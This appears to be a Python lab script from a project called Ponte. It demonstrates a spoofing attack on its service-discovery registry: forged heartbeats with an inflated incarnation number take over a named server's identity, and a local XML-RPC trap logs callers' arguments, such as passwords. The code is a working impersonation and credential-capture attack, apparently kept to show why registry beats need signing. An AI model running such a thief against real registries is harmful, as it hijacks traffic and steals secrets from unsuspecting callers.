"""A thief: it announces itself in the name of a server, so that it gets that server's calls.

    python3 -m lab.thief greeter server-1 --registry 127.0.0.1:4100

It has no key. Its beats claim a higher incarnation than any server has, so that a registry without
a key takes it for a younger process of the same name. The registry's first answer tells it the
epoch, and from the second beat on it is the server. It prints its first beat; each answer that is
not like the one before ("nothing", where none comes); and each call that it gets:

    thief: a trap for greeter/server-1 is at 127.0.0.1:43210 - stop with Ctrl-C
    thief: beats {"v":1,"type":"beat","service":"greeter","instance":"server-1", ...}
    thief: the registry answers: epoch
    thief: the registry answers: ack
    thief: took hello('password')

It uses little of Ponte, on purpose: docs/security.md has the same thief without any of it.

Ends with Ctrl-C, and with --until-eof when its standard input ends. Threads: the main one beats;
one takes the calls; and one waits for the end of the input.
"""

from __future__ import annotations

import argparse
import socket
import sys
import threading
import time
from collections.abc import Iterable
from xmlrpc.server import SimpleXMLRPCRequestHandler, SimpleXMLRPCServer

from ponte.discovery.beats import (
    Answer,
    BadDatagram,
    Beat,
    beat_to_line,
    decode_answer,
    encode_beat,
)
from ponte.net.address import Address, parse_address, show
from ponte.net.datagrams import LONGEST_BYTES
from ponte.process.characters import write_any
from ponte.process.options import PYTHON
from ponte.process.typed import here

# Higher than the clock of any server, whose incarnations are microseconds since 1970.
INCARNATION = 2 ** 52
# Between two beats, in seconds: several fit into the lease of 2 s, so that one may be lost.
BEAT_S = 0.25
# What its trap says to a caller, before the value that the caller gave.
SAYS = "I have your"
# What it prints before its beat, an answer and a call; and for no answer.
BEATS, ANSWERS, TOOK = "thief: beats ", "thief: the registry answers: ", "thief: took "
NOTHING = "nothing"


class _Handler(SimpleXMLRPCRequestHandler):
    # It takes calls at any path.
    rpc_paths = ()


class Trap(SimpleXMLRPCServer):
    """An XML-RPC server that prints every call, and answers it as if nothing were wrong.

    `says`: its answer to each caller, before the value that the caller gave.
    """

    def __init__(self, says: str = SAYS) -> None:
        super().__init__(("127.0.0.1", 0), _Handler, logRequests=False)
        self._says = says

    def _dispatch(self, method: str, params: Iterable[object]) -> str:
        values = tuple(params)
        print(f"{TOOK}{method}({', '.join(map(repr, values))})", flush=True)
        return f"{self._says} {values[0] if values else method}"


def forge(service: str, victim: str, trap: Address) -> Beat:
    """The first beat in the name of `victim`, with the address of the trap.

    Replies of the trap have no mark of Ponte. Callers believe them only from a server that is not
    Ponte's own, and so the beat says that it "remembers" nothing.
    """
    return Beat(service, victim, INCARNATION, seq=1, host=trap[0], port=trap[1], remembers=False)


def beat_on(beat: Beat, registry: Address, udp: socket.socket) -> None:
    """Sends the beat again and again, with the epoch of the last answer. Never returns."""
    said = ""
    while True:
        sent_at = time.monotonic()
        answer = _exchange(beat, registry, udp)
        now = answer.type if answer else NOTHING
        if now != said:
            print(f"{ANSWERS}{now}", flush=True)
        said = now
        # The registry helps everybody whom it believes.
        beat = beat._replace(seq=beat.seq + 1, epoch=answer.epoch if answer else beat.epoch)
        time.sleep(max(sent_at + BEAT_S - time.monotonic(), 0.0))


def _exchange(beat: Beat, registry: Address, udp: socket.socket) -> Answer | None:
    try:
        udp.sendto(encode_beat(beat), registry)
        return decode_answer(udp.recv(LONGEST_BYTES))
    except (OSError, BadDatagram):
        # Nothing came in time; nobody listens there, as Windows reports; or it is signed.
        return None


def main() -> None:
    parser = argparse.ArgumentParser(prog=f"{PYTHON} -m lab.thief", description=here(__doc__),
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("service")
    parser.add_argument("victim", help="the server whose name is taken")
    parser.add_argument("--registry", type=parse_address, default=("127.0.0.1", 4100),
                        metavar="HOST:PORT", help="(default: 127.0.0.1:4100)")
    parser.add_argument("--says", default=SAYS, metavar="TEXT",
                        help="what the trap answers, before the caller's value (default: "
                             "%(default)s)")
    parser.add_argument("--until-eof", action="store_true", help="end when standard input ends")
    chosen = parser.parse_args()
    with Trap(chosen.says) as trap, socket.socket(type=socket.SOCK_DGRAM) as udp:
        udp.settimeout(BEAT_S)
        address: Address = trap.socket.getsockname()[:2]
        print(f"thief: a trap for {chosen.service}/{chosen.victim} is at {show(address)}"
              " - stop with Ctrl-C", flush=True)
        beat = forge(chosen.service, chosen.victim, address)
        print(f"{BEATS}{beat_to_line(beat).decode()}", flush=True)
        threading.Thread(target=trap.serve_forever, daemon=True).start()
        if not chosen.until_eof:
            beat_on(beat, chosen.registry, udp)
        threading.Thread(target=beat_on, args=(beat, chosen.registry, udp), daemon=True).start()
        sys.stdin.read()
        trap.shutdown()


if __name__ == "__main__":
    write_any(sys.stdout, sys.stderr)
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(130)
